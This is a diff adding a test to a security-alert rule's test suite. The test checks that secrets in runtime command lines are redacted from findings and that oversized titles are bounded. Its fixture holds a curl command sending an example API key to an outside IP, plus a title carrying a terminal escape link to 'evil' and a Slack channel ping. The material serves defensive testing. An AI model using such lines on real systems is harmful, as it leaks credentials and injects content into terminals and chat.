@@ -14,6 +14,7 @@ import { accountsOutsideScope } from '../../../shared/policy/scope';
 import { resolvedBy } from '../../../shared/lifecycle/lifecycle';
 import { DEFAULT_POLICY } from '../../../shared/policy/load';
 import { severityOfGuardDuty } from '../../../shared/rules/runtime-threat-in-task';
+import { MAX_FINDING_BYTES } from '../../../shared/model/bounded-finding';
 import { evaluateOne, only, service, stubEnricher, withRule } from './helpers';
 
 type Json = Record<string, any>;
@@ -116,6 +117,19 @@ describe('runtime-threat-in-task', () => {
     );
     expect(new Set([first.findingId, again.findingId, update.findingId]).size).toBe(1);
     expect(update.evidence[0]!.message).toMatch(/seen 7 times/);
+  });
+
+  it('hostile: secrets in the runtime details (command lines) never reach the finding; a huge title is bounded', async () => {
+    const secret = 'AKIAIOSFODNN7EXAMPLE';
+    const leaky = finding((e) => {
+      e.detail.service.runtimeDetails.process.commandLine = `curl -H "x-api-key: ${secret}" http://203.0.113.9`;
+      e.detail.description = `ran with ${secret}`;
+      e.detail.title = `\u001b]8;;http://evil\u0007<!channel> ${'A'.repeat(200_000)}`;
+    });
+    const f = only((await evaluateOne(leaky)).findings, 'runtime-threat-in-task');
+    const text = JSON.stringify(f);
+    expect(text).not.toContain(secret);
+    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(MAX_FINDING_BYTES);
   });
 
   it('hostile: severity out of range or of the wrong type is a bad event naming detail.severity', () => {
